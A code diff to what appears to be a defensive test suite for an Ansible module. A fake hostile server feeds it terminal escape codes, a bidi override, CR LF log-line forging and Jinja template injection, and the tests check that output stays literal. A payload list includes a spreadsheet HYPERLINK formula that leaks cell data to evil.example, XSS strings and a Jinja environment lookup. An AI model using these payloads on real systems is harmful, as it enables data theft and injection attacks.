@@ -31,6 +31,8 @@ CLIENTS = '/api/v1/iam/personal_clients'
 # escape codes a terminal acts on: OSC 0 (window title), ED (clear screen), SGR red; and a bidi override
 HEADER_ESCAPES = '\x1b]0;pwned by tenant\x07\x1b[2J\x1b[31mRED'  # a header value is Latin-1
 ESCAPES = HEADER_ESCAPES + '\u202etxt.exe'
+# a name the server returns that Jinja would turn into EVALUATED
+JINJA, EVALUATED = "{{ 'jinja' ~ 'EVALUATED' }}", 'jinjaEVALUATED'
 
 
 # --------------------------------------------------------------------------------------------------------------
@@ -181,14 +183,17 @@ def _h3_escapes():
         calls.append(path)
         if len(calls) == 1:
             return _json(429, {'code': 8, 'message': 'slow down' + ESCAPES}, **{'Retry-After': '0', 'X-Request-Id': HEADER_ESCAPES})
-        if len(calls) == 2:
-            return _json(200, {'list': [], 'nextPageToken': ''})
+        if len(calls) == 2:  # a role whose name and display name are Jinja
+            return _json(200, {'list': [{'id': 'r-jinja', 'name': JINJA, 'displayName': JINJA}], 'nextPageToken': ''})
         return _json(400, {'code': 3, 'message': 'role ' + ESCAPES + ' is invalid\r\nINJECTED: fake log line'},
                      **{'X-Request-Id': 'req\x1b[2J'})
 
     def tasks(ctx):
         ctx.servers['H3'] = Hostile('127.0.0.2', respond=respond)
         return [relkit.mod('H3 retry', 'role_info', _on(ctx.servers['H3'], retries=1)),
+                {'name': 'H3 fact', 'ansible.builtin.set_fact': {'h3_roles': '{{ r.roles }}'}},
+                {'name': 'H3 write', 'ansible.builtin.copy': {'content': '{{ h3_roles | to_json }}',
+                                                              'dest': str(ctx.workdir / 'h3-roles.json')}},
                 relkit.mod('H3 error', 'role_info', _on(ctx.servers['H3']))]
 
     def check(ctx):
@@ -202,17 +207,23 @@ def _h3_escapes():
             for char in ('\x1b', '\x07', '\u202e', '\r'):
                 if char in text:
                     problems.append('%r printed raw in %s' % (char, output))
+        try:
+            names = [role.get('display_name') for role in json.loads((ctx.workdir / 'h3-roles.json').read_text())]
+        except (OSError, ValueError) as exc:
+            names = ['unreadable: %s' % exc]
+        if names != [JINJA] or EVALUATED in ctx.run.stdout:
+            problems.append('Jinja in a role name was evaluated (result, set_fact): %s' % names)
         if '\nINJECTED' in _msg(r):
             problems.append('the server started a new line in the message')
         return problems, '%s; warning: %s' % (_msg(r)[:200], ' '.join(warnings)[:200])
 
     return Finding('H3', 'a 429 whose `X-Request-Id` and message carry OSC/CSI escapes (title, clear screen, red) and '
-                   'U+202E (then a 200), and a 400 whose message adds CR LF and a fake log line',
+                   'U+202E (then a 200 listing a role named `{{ ... }}`, kept by set_fact), and a 400 whose message adds '
+                   'CR LF and a fake log line',
                    'the retry warning and the failure show every control character as `\\x1b`-style text; no raw '
-                   'ESC, BEL, CR or U+202E in stdout, stderr or the log', tasks, check)
+                   'ESC, BEL, CR or U+202E in stdout, stderr or the log; the role name stays literal', tasks, check)
 
 
-JINJA, EVALUATED = "{{ 'jinja' ~ 'EVALUATED' }}", 'jinjaEVALUATED'
 REPORT_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '\t=1+1', '\r=2+2', '  =3+3', '\uff1d4+4', '@SUM(A1)',
                 '<img src=x onerror=alert(1)>', '[click](javascript:alert(1))', '![t](https://evil.example/t.png)',
                 'cr\rover', 'pipe | cell', JINJA, "{% raw %}{{ lookup('env', 'HOME') }}{% endraw %}"]
